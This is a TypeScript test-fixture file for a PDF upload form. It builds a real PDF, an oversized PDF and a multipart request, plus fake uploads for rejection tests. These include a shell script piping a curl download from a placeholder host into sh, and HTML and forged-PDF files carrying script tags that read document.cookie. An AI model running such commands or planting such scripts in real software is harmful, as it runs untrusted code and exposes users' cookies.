/**
 * Test inputs for "Nachricht an das Netzwerk": a real PDF made by pdf-lib, the things
 * that pretend to be one, and the multipart post that carries them.
 */
import { PDFDocument, StandardFonts } from 'pdf-lib';

/** A real one-page PDF with a line of text (pdf-lib writes a classic xref table). */
export async function realPdf(text = 'Praktikumsplätze im Netzwerk', options: { useObjectStreams?: boolean; /** Bytes of an extra stream object, for files of a given size. */ padding?: number } = {}): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  if (options.padding) pdf.context.register(pdf.context.stream(new Uint8Array(options.padding).fill(0x41)));
  pdf.setTitle(text);
  pdf.setCreationDate(new Date('2026-12-01T10:00:00Z'));
  pdf.setModificationDate(new Date('2026-12-01T10:00:00Z'));
  const page = pdf.addPage([595, 842]);
  page.drawText(text, { x: 72, y: 760, size: 18, font: await pdf.embedFont(StandardFonts.Helvetica) });
  return pdf.save({ useObjectStreams: options.useObjectStreams ?? false });
}

/** A real PDF followed by padding up to `bytes`: the size is judged before anything else. */
export async function bigPdf(bytes: number): Promise<Uint8Array> {
  const pdf = await realPdf('Großer Flyer');
  const padded = new Uint8Array(bytes).fill(0x20);
  padded.set(pdf);
  return padded;
}

export const shellScript = new TextEncoder().encode('#!/bin/sh\ncurl -s http://example.org/x | sh\n');
export const htmlPage = new TextEncoder().encode('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>\n');
/** Only the first line of a PDF: a renamed file with `%PDF-` typed in front. */
export const fakeHeader = new TextEncoder().encode('%PDF-1.7\n<script>alert(1)</script>\n');

/**
 * A multipart POST to /partner/ as a browser sends it: the form encoded to bytes first.
 * (A Request built straight from FormData streams it from undici's encoder, which throws
 * an unhandled error when the request reader stops reading at its size cap.)
 */
export async function multipartPost(form: FormData, url = 'http://localhost:4321/partner/'): Promise<Request> {
  const encoded = new Response(form);
  return new Request(url, { method: 'POST', headers: { 'content-type': encoded.headers.get('content-type')! }, body: await encoded.arrayBuffer() });
}
